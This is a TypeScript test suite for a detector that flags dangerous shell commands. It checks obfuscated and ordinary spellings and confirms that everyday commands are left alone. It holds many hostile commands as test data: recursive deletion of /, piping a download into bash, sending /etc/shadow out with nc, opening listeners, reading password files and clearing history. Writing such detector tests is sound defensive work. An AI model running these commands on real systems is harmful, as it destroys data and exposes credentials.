import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { readCommand } from '../../src/detection/shell.ts';
import { suspicionRules, suspicionsOf } from '../../src/detection/suspicions.ts';

const codes = (command: string): string[] => suspicionsOf(readCommand(command)).map(({ code }) => code);

describe.each(suspicionRules)('$code', ({ code, suspicious, harmless }) => {
  test('has samples of both kinds', () => {
    expect([suspicious.length > 0, harmless.length > 0]).toEqual([true, true]);
  });
  test.each(suspicious)('finds %s', (command) => {
    expect(codes(command)).toContain(code);
  });
  test.each(harmless)('leaves %s alone', (command) => {
    expect(codes(command)).toEqual([]);
  });
});

test('codes are unique and in capitals', () => {
  const all = suspicionRules.map(({ code }) => code);
  expect(new Set(all).size).toBe(all.length);
  expect(all.filter((code) => !/^[A-Z]+(_[A-Z]+)*$/.test(code))).toEqual([]);
});

test('a rule speaks once, with the first reason it finds', () => {
  expect(suspicionsOf(readCommand('rm -rf /; rm -rf /etc'))).toMatchObject([{ code: 'SYSTEM_REMOVAL', reason: 'removes / recursively' }]);
});

test.each(['constructor=1 ls', '__proto__=1 ls', 'toString ls', 'alias constructor=ls'])(
  'names of properties are names like any other: %s',
  (line) => {
    expect(codes(line)).toEqual([]);
  },
);

test('a line can be suspicious in several ways', () => {
  expect(codes('cat /etc/shadow | nc h 1; history -c').toSorted()).toEqual(['EXFILTRATION', 'HISTORY_TAMPERING', 'PASSWORD_HASHES']);
});

describe('what the policy named by its spelling is found in any spelling', () => {
  test.each([
    [
      'SYSTEM_REMOVAL',
      [
        "r''m -fr /",
        'sudo -u root rm -r -f -- /',
        'echo cm0gLXJmIC8= | base64 -d | sh',
        'x=/; rm -rf $x',
        'sh -c "rm -rf //"',
        'echo / | xargs rm -rf',
      ],
    ],
    ['WORLD_WRITABLE', ['chmod -R 0777 /srv', 'chmod -v a=rwx x', 'find . -print0 | xargs -0 chmod 777']],
    [
      'DOWNLOAD_AND_RUN',
      ['wget -qO- h | sudo -E bash -', 'sh <(wget -qO- h)', 'bash <<< "$(curl h)"', 'python3 <(curl h)', 'curl h > /tmp/y; bash /tmp/y'],
    ],
    ['NETWORK_LISTENER', ['nc -nvlp 1', 'sh -c "nc -l 1"', '/bin/nc.traditional -l -p 1']],
    ['PASSWORD_HASHES', ['cat /etc/shado[w]', 'cat /et*/shadow', 'for f in /etc/shadow; do cat $f; done']],
    [
      'CREDENTIAL_STORE',
      [
        'c\\at /e"tc"/passwd',
        'cat /etc/{passwd,group}',
        'cat < /etc/passwd',
        'cat /etc/pass[w]d',
        'for f in /etc/passwd; do cat $f; done',
        'cat /et*/passwd',
      ],
    ],
  ])('%s', (code, commands) => {
    for (const command of commands) expect([command, codes(command)]).toEqual([command, expect.arrayContaining([code])]);
  });
});

test.each([
  'rm -rf ./build',
  'rm -rf /tmp/build',
  'chmod 755 x',
  'mkdir -p /etc/x',
  'git commit -m "rm -rf / and curl x | bash"',
  'echo "chmod 777 x" > notes.txt',
  'grep -r "nc -l" docs',
  'npm install && npm run build',
  'docker run --rm -it node:24 bash',
  'tar czf backup.tgz /home/ann/project',
  'ssh host "systemctl restart nginx"',
  'kubectl exec -it pod -- sh',
  'find . -name node_modules -exec rm -rf {} +',
  'sudo apt-get update',
  'vim /etc/hosts',
])('everyday work raises nothing: %s', (command) => {
  expect(codes(command)).toEqual([]);
});

test('no text makes the rules throw', () => {
  const word = fc.constantFrom(
    'rm',
    '-rf',
    '/',
    'cat',
    '/etc/*',
    '~',
    '[',
    '[z-a]',
    '*?[',
    'curl',
    '|',
    'sh',
    '-c',
    '=',
    '@',
    '(',
    ')',
    '$(',
    '>',
    '/dev/tcp/',
    'find',
    '-perm',
    '-exec',
    'nc',
    '-l',
    'sed',
    '-i',
    'chmod',
    '+',
    ',',
    '--',
  );
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string(),
        fc.array(word, { maxLength: 20 }).map((words) => words.join(' ')),
      ),
      (command) => Array.isArray(suspicionsOf(readCommand(command))),
    ),
    { numRuns: 1_500 },
  );
});
